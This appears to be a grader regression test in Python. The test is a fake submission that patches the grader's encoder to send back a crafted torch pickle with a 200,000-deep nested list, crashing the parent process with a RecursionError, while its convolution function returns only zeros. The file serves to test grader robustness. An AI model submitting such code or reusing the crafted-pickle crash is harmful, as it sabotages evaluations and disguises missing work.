# expected: error
# message: nested more than
# Forged reply: a 200000-deep nested list as "message". torch.load(weights_only=True) reads it
# (its unpickler is iterative), then session.Worker.request runs str() on it -> RecursionError in
# the parent -> run_check turns it into GraderBug: "internal grader error", exit code 4.
import io, struct, zipfile
import torch
import grader.runner.plain as _plain
def X(s):
    b = s.encode(); return b'X' + struct.pack('<I', len(b)) + b
def deep_payload(n=200000):
    nested = b']' * n + b'a' * (n - 1)
    pkl = b'\x80\x02}(' + X('status') + X('ok') + X('message') + nested + b'u.'
    buf = io.BytesIO(); torch.save({"status": "ok"}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_STORED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith('data.pkl'):
                data = pkl
            z.writestr(info.filename, data)
    return out.getvalue()


_orig = _plain.encode
def _encode(value):
    if type(value) is dict and value.get("status") != "ready":
        return deep_payload()
    return _orig(value)
_plain.encode = _encode


def cross_correlate2d(image, kernel):
    return torch.zeros(1)

convolve2d = cross_correlate2d
conv2d = cross_correlate2d
